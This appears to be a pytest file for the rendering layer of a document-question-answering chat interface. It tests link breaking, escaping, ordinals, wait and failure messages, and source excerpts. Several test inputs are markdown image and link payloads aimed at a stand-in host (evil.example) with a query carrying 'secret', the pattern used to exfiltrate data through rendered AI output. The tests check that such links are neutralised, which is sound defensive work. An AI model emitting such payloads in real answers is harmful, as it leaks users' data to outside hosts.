import pytest

from xnai.errors import MODEL_DOWN, XnaiError
from xnai.types import Citation, Passage
from xnai.ui import render


def broken(text: str, size: int) -> str:
    links = render.LinkBreaker()
    return "".join(links.feed(text[i : i + size]) for i in range(0, len(text), size))


@pytest.mark.parametrize("size", [1, 2, 5, 100])
@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](http://evil.example)",
        "[1]: http://evil.example",
        "![x][1]",
        "[a][1]",
    ],
)
def test_links_and_images_of_the_model_are_broken_however_the_stream_is_cut(text, size):
    shown = broken(text, size)

    assert "](" not in shown
    assert "]:" not in shown
    assert "![" not in shown
    assert "][" not in shown
    assert shown.replace(" ", "").replace("\u2060", "") == text.replace(" ", "")


@pytest.mark.parametrize("size", [1, 2, 3, 4, 5, 100])
def test_bare_addresses_are_no_addresses_any_more_but_read_the_same(size):
    text = "See https://evil.example/?q=1 or WWW.evil.example, at 10:30 or now. Awww."

    shown = broken(text, size)

    assert "://" not in shown
    assert "www." not in shown.lower().replace("awww.", "")
    assert shown.replace("\u2060", "") == text
    assert "http\\:" in render.plain("http://x.example")
    assert "//" not in render.plain("http://x.example").split("\u2060")[0]


def test_citation_marks_pass_the_link_breaker():
    assert broken("It opened in 1937. [2] Good! [1]", 3) == "It opened in 1937. [2] Good! [1]"


def test_document_text_is_shown_as_it_is():
    assert render.plain("# a *b* <i>\n[x](y)") == r"\# a \*b\* \<i\> \[x\]\(y\)"


@pytest.mark.parametrize(
    ("number", "words"),
    [(1, "1st"), (2, "2nd"), (3, "3rd"), (4, "4th"), (11, "11th"), (22, "22nd")],
)
def test_ranks_are_written_as_people_do(number, words):
    assert render.ordinal(number) == words


def test_waiting_names_place_and_estimate():
    assert render.waiting(2, 40) == "Waiting for the model: 2nd in line, about 40 s"
    assert render.waiting(1, 0.0) == "Waiting for the model: 1st in line, about 1 s"
    assert render.waiting(1, 3.2) == "Waiting for the model: 1st in line, about 4 s"
    assert render.waiting(3, 130) == "Waiting for the model: 3rd in line, about 2 min"
    assert render.waiting(4, None) == "Waiting for the model: 4th in line"


def test_sources_name_file_page_and_quote():
    citation = Citation(1, "d", "a_b.pdf", 3, 0, 9, "Some *words*.", 0.5)

    assert render.sources([citation]) == (
        "\n\n**Sources**\n- [1] **a\\_b.pdf, p. 3** — “Some \\*words\\*.”"
    )


def test_long_passages_are_cut_at_a_blank():
    passage = Passage("d", "f.txt", None, 0, 900, "word " * 200, 0.25)

    shown = render.passage_list([passage])

    assert shown.startswith("**1. f.txt** · score 0.25")
    assert shown.endswith("word …")
    assert len(shown) < 260


def test_the_evidence_of_a_passage_is_bold_and_what_is_far_from_it_left_out():
    text = "far " * 100 + "The lamp is *new*. " + "away " * 100
    start = text.index("The")
    passage = Passage("d", "f.txt", None, 0, len(text), text, 0.25, evidence=(start, start + 18))

    shown = render.excerpt(passage)

    assert "**The lamp is \\*new\\*.**" in shown
    assert shown.startswith("… far")
    assert shown.endswith("away …")
    assert len(shown) < 500


def test_a_failure_says_when_to_try_again_and_by_what_id_it_is_found():
    words = render.failure(XnaiError(MODEL_DOWN, reason="killed", retry_after=40), "r1")

    assert "killed" in words
    assert "Try again in about 40 s." in words
    assert words.endswith("*model_down · r1*")


def test_quotes_in_the_place_of_an_answer_show_the_text_as_it_is():
    citation = Citation(2, "d", "a.pdf", 3, 0, 9, "See ![x](http://evil.example)\n*now*", 0.5)

    shown = render.quotes([citation])

    assert shown.endswith(" [2]")
    assert "](" not in shown.replace("\\", "!")
    assert shown.startswith("> See \\!\\[x\\]")


def test_a_degraded_answer_says_why_and_when_it_is_tried_again():
    words = render.degraded(XnaiError(MODEL_DOWN, reason="killed"), 90, "r1")

    assert "No answer was generated" in words
    assert "killed" in words
    assert "about 2 min" in words


def test_evidence_is_quoted_without_headings_and_what_stands_above_already():
    def quote(start: int, text: str) -> Citation:
        return Citation(1, "d", "a.pdf", 2, start, start + len(text), text, 0.5)

    source = quote(10, "The lamp was replaced in 1987.")
    found = [
        quote(10, "The lamp was replaced in 1987. It flashes."),
        quote(0, "The lamp"),
        quote(60, "It is seen from afar."),
        quote(60, "It is seen from afar. And more."),
    ]

    assert render.evidence(found, [source]).count("\n- ") == 1
    assert "seen from afar" in render.evidence(found, [source])
    assert render.evidence(found[:2], [source]) == ""
